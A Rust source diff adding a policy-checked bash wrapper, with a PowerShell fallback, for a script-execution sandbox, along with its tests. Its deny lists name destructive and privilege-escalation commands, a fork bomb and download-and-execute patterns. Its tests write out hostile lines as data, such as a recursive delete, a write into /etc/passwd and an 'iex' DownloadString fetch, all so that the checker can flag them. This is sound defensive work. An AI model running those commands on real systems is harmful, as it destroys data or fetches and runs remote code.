@@ -0,0 +1,655 @@
+//! Bash language wrapper
+//!
+//! Scripts are statically checked against a [`BashPolicy`] before they run, and execute
+//! with `set -euo pipefail`, a restricted PATH, and a scratch working directory.
+//!
+//! On Windows, bash is used when one is on the PATH (Git Bash, MSYS2). Otherwise the
+//! [`ShellFallback`] decides: by default the wrapper refuses to start with
+//! [`WrapperError::UnsupportedOnPlatform`], or, when opted into, scripts run under
+//! PowerShell. PowerShell scripts are syntax checked with PowerShell's parser and
+//! checked against a [`PowerShellPolicy`] instead of the bash one, run with
+//! `$ErrorActionPreference = 'Stop'` in place of strict mode, and keep the Windows base
+//! environment rather than the restricted PATH. Their syntax is PowerShell's, so bash
+//! scripts generally need porting.
+
+use crate::error::{PolicyFinding, WrapperError};
+use crate::{process, ExecutionOutput, ExecutionRequest, LanguageWrapper, ResourceLimits};
+use anyhow::Result;
+use async_trait::async_trait;
+use serde::{Deserialize, Serialize};
+use std::collections::HashSet;
+use std::path::{Path, PathBuf};
+use tokio::process::Command;
+use tracing::warn;
+
+const RESTRICTED_PATH: &str = "/usr/bin:/bin";
+
+/// Prepended to every script; shifts reported runtime line numbers by one
+const STRICT_PRELUDE: &str = "set -euo pipefail\n";
+
+/// PowerShell's nearest equivalent of `STRICT_PRELUDE`
+const POWERSHELL_PRELUDE: &str = "$ErrorActionPreference = 'Stop'\n";
+
+/// Parses the script named by `$env:TALKPP_SCRIPT` and reports its first error as
+/// `<line>: <message>`
+const POWERSHELL_SYNTAX_CHECK: &str = "$errors = $null; \
+    [void][System.Management.Automation.Language.Parser]::ParseFile($env:TALKPP_SCRIPT, [ref]$null, [ref]$errors); \
+    if ($errors) { Write-Output ([string]$errors[0].Extent.StartLineNumber + ': ' + $errors[0].Message); exit 1 }";
+
+/// Directories that scripts may never redirect output into
+const SYSTEM_PATHS: &[&str] = &["/etc", "/usr", "/bin", "/sbin", "/boot", "/lib", "/proc", "/sys", "/var", "/root", "/dev"];
+
+/// Device files that are safe redirect targets
+const SAFE_DEVICES: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr"];
+
+/// Shell words that precede the actual command on a line
+const SHELL_KEYWORDS: &[&str] = &["if", "then", "else", "elif", "do", "while", "until", "for", "!", "{", "(", "time", "exec"];
+
+/// Commands and patterns a script is allowed to use
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BashPolicy {
+    pub denied_commands: HashSet<String>,
+    /// When set, only these commands (plus shell builtins) may run
+    pub allowed_commands: Option<HashSet<String>>,
+    /// Raw substrings that are always rejected
+    pub denied_patterns: Vec<String>,
+}
+
+impl Default for BashPolicy {
+    fn default() -> Self {
+        Self {
+            denied_commands: [
+                "sudo", "su", "doas", "mkfs", "dd", "fdisk", "shutdown", "reboot", "halt",
+                "poweroff", "chown", "mount", "umount", "iptables", "systemctl", "crontab",
+            ]
+            .into_iter()
+            .map(String::from)
+            .collect(),
+            allowed_commands: None,
+            denied_patterns: vec![
+                "rm -rf /".to_string(),
+                "rm -fr /".to_string(),
+                ":(){".to_string(),
+                "--no-preserve-root".to_string(),
+            ],
+        }
+    }
+}
+
+const BUILTINS: &[&str] = &[
+    "echo", "printf", "read", "set", "export", "local", "return", "exit", "true", "false",
+    "test", "[", "[[", "cd", "shift", "unset", "declare", "fi", "done", "esac", "case", "}",
+];
+
+/// Result of statically checking a script
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct BashValidationReport {
+    pub findings: Vec<PolicyFinding>,
+}
+
+impl BashValidationReport {
+    pub fn is_clean(&self) -> bool {
+        self.findings.is_empty()
+    }
+}
+
+impl BashPolicy {
+    /// Flag disallowed commands, patterns, and redirects to system paths
+    pub fn check(&self, code: &str) -> BashValidationReport {
+        let mut report = BashValidationReport::default();
+
+        for (index, raw_line) in code.lines().enumerate() {
+            let line_number = index + 1;
+            let line = strip_comment(raw_line);
+            let mut flag = |construct: &str, reason: String| {
+                report.findings.push(PolicyFinding {
+                    line: line_number,
+                    construct: construct.to_string(),
+                    reason,
+                });
+            };
+
+            for pattern in &self.denied_patterns {
+                if line.contains(pattern.as_str()) {
+                    flag(pattern, "denied pattern".to_string());
+                }
+            }
+
+            for command in commands_in(line) {
+                if self.denied_commands.contains(command) {
+                    flag(command, "denied command".to_string());
+                } else if let Some(allowed) = &self.allowed_commands {
+                    if !allowed.contains(command) && !BUILTINS.contains(&command) {
+                        flag(command, "command not in allow-list".to_string());
+                    }
+                }
+            }
+
+            for target in redirect_targets(line) {
+                let system = SYSTEM_PATHS.iter().any(|p| target == *p || target.starts_with(&format!("{}/", p)));
+                if system && !SAFE_DEVICES.contains(&target) {
+                    flag(target, "redirect to system path".to_string());
+                }
+            }
+        }
+
+        report
+    }
+}
+
+fn strip_comment(line: &str) -> &str {
+    let mut quote = None;
+    let mut previous = ' ';
+    for (i, c) in line.char_indices() {
+        match (quote, c) {
+            (None, '\'' | '"') => quote = Some(c),
+            (Some(q), c) if c == q => quote = None,
+            (None, '#') if previous.is_whitespace() => return &line[..i],
+            _ => {}
+        }
+        previous = c;
+    }
+    line
+}
+
+/// First word of every simple command on a line
+fn commands_in(line: &str) -> Vec<&str> {
+    line.split(['|', ';', '&', '`', '('])
+        .filter_map(|segment| {
+            segment
+                .split_whitespace()
+                .map(|w| w.trim_start_matches('$'))
+                .find(|w| !w.is_empty() && !SHELL_KEYWORDS.contains(w) && !is_assignment(w))
+        })
+        .map(|w| w.rsplit('/').next().unwrap_or(w))
+        .collect()
+}
+
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=')
+        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
+}
+
+/// Paths written by `>`, `>>`, or `&>` redirects
+fn redirect_targets(line: &str) -> Vec<&str> {
+    let mut targets = Vec::new();
+    let mut rest = line;
+    while let Some(pos) = rest.find('>') {
+        rest = rest[pos + 1..].trim_start_matches(['>', '|']).trim_start();
+        if let Some(target) = rest.split_whitespace().next() {
+            let target = target.trim_matches(['"', '\'']);
+            if target.starts_with('/') {
+                targets.push(target);
+            }
+        }
+    }
+    targets
+}
+
+/// Commands and patterns a PowerShell script is allowed to use. PowerShell is case
+/// insensitive, so both are matched ignoring case.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PowerShellPolicy {
+    /// Cmdlets, aliases and executables that may not run
+    pub denied_commands: HashSet<String>,
+    /// Raw substrings that are always rejected
+    pub denied_patterns: Vec<String>,
+}
+
+/// `Remove-Item` and its aliases, which may not delete recursively
+const POWERSHELL_REMOVE: &[&str] = &["remove-item", "rm", "del", "erase", "rd", "rmdir", "ri"];
+
+impl Default for PowerShellPolicy {
+    fn default() -> Self {
+        Self {
+            denied_commands: [
+                "format-volume", "clear-disk", "initialize-disk", "remove-partition", "stop-computer",
+                "restart-computer", "invoke-expression", "iex", "set-executionpolicy", "new-service",
+                "set-service", "register-scheduledtask", "schtasks", "new-localuser", "add-localgroupmember",
+                "set-mppreference", "takeown", "icacls", "reg", "bcdedit", "diskpart", "format", "shutdown",
+                "vssadmin", "wmic", "net",
+            ]
+            .into_iter()
+            .map(String::from)
+            .collect(),
+            denied_patterns: vec![
+                "-verb runas".to_string(),
+                "-encodedcommand".to_string(),
+                "[scriptblock]::create".to_string(),
+                "downloadstring(".to_string(),
+                "$env:windir".to_string(),
+                "$env:systemroot".to_string(),
+                "c:\\windows".to_string(),
+            ],
+        }
+    }
+}
+
+impl PowerShellPolicy {
+    /// Flag disallowed commands and patterns, and recursive deletes
+    pub fn check(&self, code: &str) -> BashValidationReport {
+        let mut report = BashValidationReport::default();
+
+        for (index, raw_line) in code.lines().enumerate() {
+            let line = strip_comment(raw_line).to_lowercase();
+            let mut flag = |construct: &str, reason: &str| {
+                report.findings.push(PolicyFinding {
+                    line: index + 1,
+                    construct: construct.to_string(),
+                    reason: reason.to_string(),
+                });
+            };
+
+            for pattern in &self.denied_patterns {
+                if line.contains(&pattern.to_lowercase()) {
+                    flag(pattern, "denied pattern");
+                }
+            }
+
+            for segment in line.split(['|', ';', '(', '{', '}']) {
+                let mut words = segment.split_whitespace().skip_while(|w| *w == "&" || *w == ".");
+                let Some(command) = words.next() else { continue };
+                let command = command.trim_matches(['&', '\'', '"']);
+                let command = command.rsplit(['\\', '/']).next().unwrap_or(command).trim_end_matches(".exe");
+
+                if self.denied_commands.iter().any(|denied| denied.eq_ignore_ascii_case(command)) {
+                    flag(command, "denied command");
+                } else if POWERSHELL_REMOVE.contains(&command)
+                    // Any prefix of -Recurse names it
+                    && words.any(|w| w.len() >= 2 && "-recurse".starts_with(w))
+                {
+                    flag(command, "recursive delete");
+                }
+            }
+        }
+
+        report
+    }
+}
+
+/// What [`BashWrapper`] runs scripts with on Windows when bash is not installed.
+/// Elsewhere a missing bash is always [`WrapperError::InterpreterNotFound`].
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub enum ShellFallback {
+    /// `pwsh`, or Windows PowerShell when PowerShell 7 is not installed. Scripts are
+    /// checked against the wrapper's [`PowerShellPolicy`].
+    PowerShell,
+    /// Fail with [`WrapperError::UnsupportedOnPlatform`]
+    #[default]
+    Unsupported,
+}
+
+#[derive(Debug, Clone)]
+enum Shell {
+    Bash(PathBuf),
+    PowerShell(PathBuf),
+}
+
+impl Shell {
+    fn locate(fallback: ShellFallback, windows: bool, which: impl Fn(&str) -> Option<PathBuf>) -> Result<Self, WrapperError> {
+        if let Some(bash) = which("bash") {
+            return Ok(Self::Bash(bash));
+        }
+        match (windows, fallback) {
+            (false, _) => Err(WrapperError::InterpreterNotFound { name: "bash".to_string() }),
+            (true, ShellFallback::Unsupported) => Err(WrapperError::unsupported("Bash scripts without bash installed")),
+            (true, ShellFallback::PowerShell) => which("pwsh")
+                .or_else(|| which("powershell"))
+                .map(Self::PowerShell)
+                .ok_or_else(|| WrapperError::InterpreterNotFound { name: "bash, pwsh, or powershell".to_string() }),
+        }
+    }
+
+    fn path(&self) -> &Path {
+        match self {
+            Self::Bash(p) | Self::PowerShell(p) => p,
+        }
+    }
+
+    fn command(&self, script: &Path) -> Command {
+        let mut command = Command::new(self.path());
+        if let Self::PowerShell(_) = self {
+            // RemoteSigned lets the local, unsigned script run without lifting other checks
+            command.args(["-NoLogo", "-NoProfile", "-NonInteractive", "-ExecutionPolicy", "RemoteSigned", "-File"]);
+        }
+        command.arg(script);
+        command
+    }
+}
+
+/// Executes shell scripts under bash, or under PowerShell on Windows machines without
+/// bash; see the [module docs](self) for how the two differ
+pub struct BashWrapper {
+    shell: Shell,
+    limits: ResourceLimits,
+    policy: BashPolicy,
+    powershell_policy: PowerShellPolicy,
+    unsafe_allowed: bool,
+}
+
+impl BashWrapper {
+    pub fn new() -> Result<Self> {
+        Self::with_fallback(ShellFallback::default())
+    }
+
+    /// Locate bash, falling back as configured on Windows
+    pub fn with_fallback(fallback: ShellFallback) -> Result<Self> {
+        let shell = Shell::locate(fallback, cfg!(windows), |name| which::which(name).ok())?;
+        Ok(Self {
+            shell,
+            limits: ResourceLimits::default(),
+            policy: BashPolicy::default(),
+            powershell_policy: PowerShellPolicy::default(),
+            unsafe_allowed: false,
+        })
+    }
+
+    pub fn with_limits(mut self, limits: ResourceLimits) -> Self {
+        self.limits = limits;
+        self
+    }
+
+    pub fn with_policy(mut self, policy: BashPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Policy for scripts run under the PowerShell fallback
+    pub fn with_powershell_policy(mut self, policy: PowerShellPolicy) -> Self {
+        self.powershell_policy = policy;
+        self
+    }
+
+    /// Run scripts even when the policy flags them
+    pub fn with_unsafe_allowed(mut self, unsafe_allowed: bool) -> Self {
+        self.unsafe_allowed = unsafe_allowed;
+        self
+    }
+
+    /// Whether scripts run under PowerShell rather than bash
+    pub fn uses_powershell(&self) -> bool {
+        matches!(self.shell, Shell::PowerShell(_))
+    }
+
+    /// Syntax check with `bash -n`, or PowerShell's parser, followed by the policy scan
+    pub fn analyze(&self, code: &str) -> Result<BashValidationReport> {
+        let bash = match &self.shell {
+            Shell::Bash(bash) => bash,
+            Shell::PowerShell(powershell) => return self.analyze_powershell(powershell, code),
+        };
+        let source = process::write_source(code, ".sh")?;
+        let output = std::process::Command::new(bash)
+            .arg("-n")
+            .arg(source.path())
+            .output()?;
+
+        if !output.status.success() {
+            // bash -n reports `<path>: line N: <message>`
+            let stderr = String::from_utf8_lossy(&output.stderr);
+            let first = stderr.lines().next().unwrap_or_default();
+            let line = first
+                .split(": line ")
+                .nth(1)
+                .and_then(|rest| rest.split(':').next())
+                .and_then(|n| n.parse().ok());
+            let message = first.rsplit(": ").next().unwrap_or(first).to_string();
+            return Err(WrapperError::syntax(line, message).into());
+        }
+
+        Ok(self.policy.check(code))
+    }
+
+    fn analyze_powershell(&self, powershell: &Path, code: &str) -> Result<BashValidationReport> {
+        let source = process::write_source(code, ".ps1")?;
+        let output = std::process::Command::new(powershell)
+            .args(["-NoLogo", "-NoProfile", "-NonInteractive", "-Command", POWERSHELL_SYNTAX_CHECK])
+            .env("TALKPP_SCRIPT", source.path())
+            .output()?;
+
+        if !output.status.success() {
+            let stdout = String::from_utf8_lossy(&output.stdout);
+            let first = stdout.lines().next().unwrap_or_default();
+            let (line, message) = match first.split_once(": ") {
+                Some((line, message)) => (line.parse().ok(), message),
+                None => (None, first),
+            };
+            return Err(WrapperError::syntax(line, message).into());
+        }
+
+        Ok(self.powershell_policy.check(code))
+    }
+}
+
+#[async_trait]
+impl LanguageWrapper for BashWrapper {
+    async fn execute_with(&self, mut request: ExecutionRequest) -> Result<ExecutionOutput> {
+        let report = self.analyze(&request.code)?;
+        if !report.is_clean() {
+            if !self.unsafe_allowed {
+                return Err(WrapperError::PolicyViolation { findings: report.findings }.into());
+            }
+            warn!("Running bash script with {} policy findings (unsafe allowed)", report.findings.len());
+        }
+
+        let source = match self.shell {
+            Shell::Bash(_) => process::write_source(&format!("{}{}", STRICT_PRELUDE, request.code), ".sh")?,
+            Shell::PowerShell(_) => process::write_source(&format!("{}{}", POWERSHELL_PRELUDE, request.code), ".ps1")?,
+        };
+
+        let scratch_dir = tempfile::tempdir()?;
+        if request.working_dir.is_none() {
+            request.working_dir = Some(scratch_dir.path().to_path_buf());
+        }
+        if !request.inherit_env && !self.uses_powershell() {
+            request.env.insert("PATH".to_string(), RESTRICTED_PATH.to_string());
+        }
+
+        let command = self.shell.command(source.path());
+        process::run_sandboxed(command, &request, &self.limits).await
+    }
+
+    fn validate(&self, code: &str) -> Result<()> {
+        let report = self.analyze(code)?;
+        if report.is_clean() || self.unsafe_allowed {
+            Ok(())
+        } else {
+            Err(WrapperError::PolicyViolation { findings: report.findings }.into())
+        }
+    }
+
+    fn version(&self) -> String {
+        let mut command = std::process::Command::new(self.shell.path());
+        match self.shell {
+            Shell::Bash(_) => command.arg("--version"),
+            Shell::PowerShell(_) => command.args(["-NoProfile", "-Command", "\"PowerShell $($PSVersionTable.PSVersion)\""]),
+        };
+        command
+            .output()
+            .ok()
+            .and_then(|o| String::from_utf8_lossy(&o.stdout).lines().next().map(str::to_string))
+            .unwrap_or_else(|| "unknown".to_string())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::time::Duration;
+
+    #[tokio::test]
+    async fn test_blocked_command_rejected() {
+        let bash = BashWrapper::new().unwrap();
+        let script = "echo start\nsudo rm -rf /tmp/x\necho hi > /etc/passwd\n";
+
+        let err = bash.execute(script, &[]).await.unwrap_err();
+        match err.downcast_ref::<WrapperError>() {
+            Some(WrapperError::PolicyViolation { findings }) => {
+                assert!(findings.iter().any(|f| f.line == 2 && f.construct == "sudo"));
+                assert!(findings.iter().any(|f| f.line == 3 && f.construct == "/etc/passwd"));
+            }
+            other => panic!("unexpected error: {:?}", other),
+        }
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_allowed_script_runs() {
+        let bash = BashWrapper::new().unwrap();
+        let script = "# write to the scratch dir\nname=world\necho \"hello $name\" > out.txt 2>/dev/null\ncat out.txt | tr a-z A-Z\n";
+
+        let output = bash.execute(script, &[]).await.unwrap();
+        assert_eq!(output.stdout.trim(), "HELLO WORLD", "{}", output.stderr);
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_strict_mode_stops_on_failure() {
+        let bash = BashWrapper::new().unwrap();
+
+        let output = bash.execute("false\necho unreachable\n", &[]).await.unwrap();
+        assert!(!output.success());
+        assert!(output.stdout.is_empty());
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_timeout_kills_sleep() {
+        let bash = BashWrapper::new().unwrap().with_limits(ResourceLimits {
+            timeout: Duration::from_millis(300),
+            ..ResourceLimits::default()
+        });
+
+        let output = bash.execute("sleep 30\n", &[]).await.unwrap();
+        assert!(output.timed_out);
+        assert!(output.duration < Duration::from_secs(5));
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_cancellation_kills_group_and_keeps_output() {
+        let bash = BashWrapper::new().unwrap();
+        let cancel = tokio_util::sync::CancellationToken::new();
+        let request = ExecutionRequest::new("echo started\nsleep 30 &\nwait\necho unreachable\n").with_cancellation(cancel.clone());
+
+        let canceller = tokio::spawn(async move {
+            tokio::time::sleep(Duration::from_millis(300)).await;
+            cancel.cancel();
+        });
+        let output = bash.execute_with(request).await.unwrap();
+        canceller.await.unwrap();
+
+        assert!(output.cancelled && !output.timed_out && !output.success());
+        assert_eq!(output.stdout, "started\n");
+        assert!(output.duration < Duration::from_secs(5), "the backgrounded sleep was killed with its group");
+    }
+
+    #[cfg(unix)]
+    #[tokio::test]
+    async fn test_cpu_limit_stops_busy_loop() {
+        let bash = BashWrapper::new().unwrap().with_limits(ResourceLimits {
+            timeout: Duration::from_secs(20),
+            max_cpu_seconds: Some(1),
+            ..ResourceLimits::default()
+        });
+
+        let output = bash.execute("while :; do :; done\n", &[]).await.unwrap();
+        assert!(!output.timed_out);
+        assert_eq!(output.exit_code, None, "killed by SIGXCPU");
+    }
+
+    #[cfg(windows)]
+    #[tokio::test]
+    async fn test_powershell_fallback_runs_scripts() {
+        let Ok(powershell) = which::which("pwsh").or_else(|_| which::which("powershell")) else {
+            return;
+        };
+        let wrapper = BashWrapper {
+            shell: Shell::PowerShell(powershell),
+            limits: ResourceLimits {
+                timeout: Duration::from_secs(20),
+                max_cpu_seconds: Some(1),
+                ..ResourceLimits::default()
+            },
+            policy: BashPolicy::default(),
+            powershell_policy: PowerShellPolicy::default(),
+            unsafe_allowed: false,
+        };
+
+        let err = wrapper.execute("Write-Output (\n", &[]).await.unwrap_err();
+        assert!(matches!(err.downcast_ref(), Some(WrapperError::SyntaxError { line: Some(1), .. })), "{:?}", err);
+        let err = wrapper.execute("Remove-Item C:\\data -Recurse -Force\n", &[]).await.unwrap_err();
+        assert!(matches!(err.downcast_ref(), Some(WrapperError::PolicyViolation { .. })), "{:?}", err);
+
+        let output = wrapper.execute("Write-Output \"hello $env:GREETING\"\n", &[]).await.unwrap();
+        assert_eq!(output.stdout.trim(), "hello", "{}", output.stderr);
+        let output = wrapper.execute("while ($true) {}\n", &[]).await.unwrap();
+        assert!(!output.timed_out && !output.success(), "the job's CPU limit ends the loop");
+    }
+
+    #[test]
+    fn test_shell_fallback_by_platform() {
+        let only = |available: &'static [&'static str]| {
+            move |name: &str| available.contains(&name).then(|| PathBuf::from(name))
+        };
+
+        let shell = Shell::locate(ShellFallback::Unsupported, true, only(&["bash", "pwsh"])).unwrap();
+        assert!(matches!(shell, Shell::Bash(_)));
+        let shell = Shell::locate(ShellFallback::PowerShell, true, only(&["powershell"])).unwrap();
+        assert!(matches!(shell, Shell::PowerShell(p) if p == Path::new("powershell")));
+        assert!(matches!(
+            Shell::locate(ShellFallback::Unsupported, true, only(&["pwsh"])),
+            Err(WrapperError::UnsupportedOnPlatform { .. })
+        ));
+        assert!(matches!(
+            Shell::locate(ShellFallback::PowerShell, false, only(&["pwsh"])),
+            Err(WrapperError::InterpreterNotFound { .. })
+        ));
+    }
+
+    #[test]
+    fn test_powershell_is_opt_in() {
+        assert_eq!(ShellFallback::default(), ShellFallback::Unsupported);
+    }
+
+    #[test]
+    fn test_powershell_policy_flags_destructive_commands() {
+        let script = "Write-Output 'Format-Volume is only mentioned' # Stop-Computer\n\
+            Remove-Item .\\out.txt\n\
+            rm C:\\ -r -fo\n\
+            Get-Volume | FORMAT-VOLUME -DriveLetter D\n\
+            & 'C:\\Windows\\System32\\shutdown.exe' /s\n\
+            iex (New-Object Net.WebClient).DownloadString('http://x')\n\
+            Start-Process pwsh -Verb RunAs\n";
+
+        let report = PowerShellPolicy::default().check(script);
+        let flagged: Vec<(usize, &str)> = report.findings.iter().map(|f| (f.line, f.construct.as_str())).collect();
+        assert_eq!(flagged, [
+            (3, "rm"),
+            (4, "format-volume"),
+            (5, "c:\\windows"),
+            (5, "shutdown"),
+            (6, "downloadstring("),
+            (6, "iex"),
+            (7, "-verb runas"),
+        ]);
+    }
+
+    #[test]
+    fn test_allow_list_mode() {
+        let policy = BashPolicy {
+            allowed_commands: Some(["grep".to_string()].into_iter().collect()),
+            ..BashPolicy::default()
+        };
+
+        let report = policy.check("echo hi | grep h\ncurl http://example.com\n");
+        assert_eq!(report.findings.len(), 1);
+        assert_eq!(report.findings[0].line, 2);
+        assert_eq!(report.findings[0].construct, "curl");
+    }
+
+    #[test]
+    fn test_comments_and_quotes_not_flagged() {
+        let report = BashPolicy::default().check("echo 'sudo is not run here' # sudo in comment\n");
+        assert!(report.is_clean());
+    }
+}